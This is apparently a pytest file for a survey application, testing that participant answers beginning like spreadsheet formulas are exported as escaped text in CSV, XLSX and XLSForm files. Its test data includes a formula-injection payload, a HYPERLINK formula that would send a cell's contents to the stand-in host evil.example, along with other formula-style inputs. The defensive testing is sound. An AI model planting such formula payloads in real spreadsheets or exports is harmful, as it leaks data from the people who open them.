"""Participants' text that starts like a spreadsheet formula is exported as text, in CSV, XLSX and XLSForm alike."""


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _fill_text(app, survey_id, texts):
    import uuid

    from cocreate.extensions import db
    from cocreate.surveys import services
    from cocreate.surveys.models import Survey
    with app.app_context():
        survey = db.session.get(Survey, survey_id)
        for n, text in enumerate(texts):
            services.submit_response(survey, client_uuid=str(uuid.UUID(int=n + 1)), language="en",
                                     answers={"working": "no", "story": text})
        db.session.commit()


FORMULAS = [EVIL, "+1+2", "-3+cmd", "@SUM(A1)"]  # answers are stripped, so tab and CR are checked below


def test_csv_export_writes_formulas_as_text(app, client, auth, make_survey):
    import csv
    import io
    survey_id, _code = make_survey()
    _fill_text(app, survey_id, FORMULAS + ["plain"])
    auth.login_as("researcher")
    response = client.get(f"/surveys/{survey_id}/export/responses.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert sorted(row["story"] for row in rows) == sorted(["'" + text for text in FORMULAS] + ["plain"])


def test_xlsx_export_and_xlsform_never_hold_formulas(app, client, auth, make_survey, survey_in):
    import io

    from openpyxl import load_workbook

    from cocreate.surveys import services, xlsform
    survey_id, _code = make_survey()
    _fill_text(app, survey_id, FORMULAS)
    auth.login_as("researcher")
    response = client.get(f"/surveys/{survey_id}/export/responses.xlsx")
    sheet = load_workbook(io.BytesIO(response.data))["responses"]
    column = [cell.value for cell in sheet[1]].index("story")
    cells = [row[column] for row in list(sheet.iter_rows())[1:]]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sorted(cell.value for cell in cells) == sorted("'" + text for text in FORMULAS)
    with survey_in(survey_id) as survey, app.test_request_context():
        defn = services.definition(survey)
        defn["sections"][0]["questions"][0]["label"]["en"] = "=1+1"
        book = load_workbook(io.BytesIO(xlsform.write(defn)))
    labels = [row for row in book["survey"].iter_rows() if row[0].value == "yes_no" or row[1].value == "working"]
    assert labels[0][2].value == "=1+1" and labels[0][2].data_type == "s"  # read back as written, never run
